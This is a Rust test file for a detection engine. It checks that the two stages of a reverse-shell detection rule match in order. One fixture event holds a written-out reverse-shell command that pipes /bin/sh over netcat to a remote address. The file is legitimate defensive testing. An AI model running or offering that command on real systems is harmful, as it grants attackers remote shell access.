//! A stage of a sequence is asked while something before it is held, and not otherwise.

use detector_rules::Shipped;
use detectors::{Handle, Layout, RuleSet, Slots, Timestamp};
use detectors_json::Decoder;

const STARTED: &str = r#"{"@timestamp":"2026-01-01T00:00:00.000Z","host":{"id":"h","os":{"type":"linux"}},
    "process":{"parent":{"name":"bash"},"name":"nc","executable":"/usr/bin/nc","args":["nc","-e","/bin/sh","203.0.113.9"],
        "args_count":4,"entity_id":"p"},
    "event":{"action":"exec","category":["process"],"type":["start"]}}"#;
const CONNECTED: &str = r#"{"@timestamp":"2026-01-01T00:00:00.500Z","host":{"id":"h","os":{"type":"linux"}},
    "process":{"name":"nc","executable":"/usr/bin/nc","entity_id":"p"},"destination":{"ip":"203.0.113.9"},
    "event":{"action":"connection_attempted","category":["network"],"type":["start"]}}"#;

#[test]
fn a_stage_waits_until_one_before_it_is_held_and_again_when_that_is_over() {
    let rule =
        Shipped::RULES.iter().position(|rule| rule.name == "Potential Reverse Shell via Suspicious Child Process").unwrap();
    let [mut first, mut second] = [Decoder::new(Shipped::FIELDS), Decoder::new(Shipped::FIELDS)];
    let started = Slots::<Shipped>::new(first.decode(STARTED.as_bytes(), Handle(1)).unwrap());
    let connected = Slots::<Shipped>::new(second.decode(CONNECTED.as_bytes(), Handle(2)).unwrap());
    let mut matcher = Box::new(Shipped::matcher::<64>());
    // Whether the second stage waits; that the event would meet it does not change.
    let waits = |matcher: &mut _| {
        let mut found = None;
        detector_rules::ask(matcher, &connected, &mut |of, query, waits, judge| {
            if (of, query) == (rule, 1) {
                found = Some((waits, judge()));
            }
        });
        found
    };
    let mut alerts = Vec::new();

    assert_eq!(waits(&mut matcher), Some((true, true)), "nothing is held");
    matcher.observe(&connected, |alert| alerts.push(alert.rule.name));
    assert_eq!(waits(&mut matcher), Some((true, true)), "a second stage begins nothing");
    matcher.observe(&started, |alert| alerts.push(alert.rule.name));
    assert_eq!(waits(&mut matcher), Some((false, true)), "a first stage is held");
    matcher.advance(Timestamp(i64::MAX), |alert| alerts.push(alert.rule.name));
    assert_eq!(waits(&mut matcher), Some((true, true)), "it is over");
    matcher.observe(&started, |alert| alerts.push(alert.rule.name));
    assert!(!alerts.contains(&Shipped::RULES[rule].name));
    matcher.observe(&connected, |alert| alerts.push(alert.rule.name));
    assert!(alerts.contains(&Shipped::RULES[rule].name), "{alerts:?}");
    assert_eq!(waits(&mut matcher), Some((true, true)), "it is used up");
    matcher.observe(&started, |_| {});
    matcher.reseed([1, 2]);
    assert_eq!(waits(&mut matcher), Some((true, true)), "all is forgotten");
}
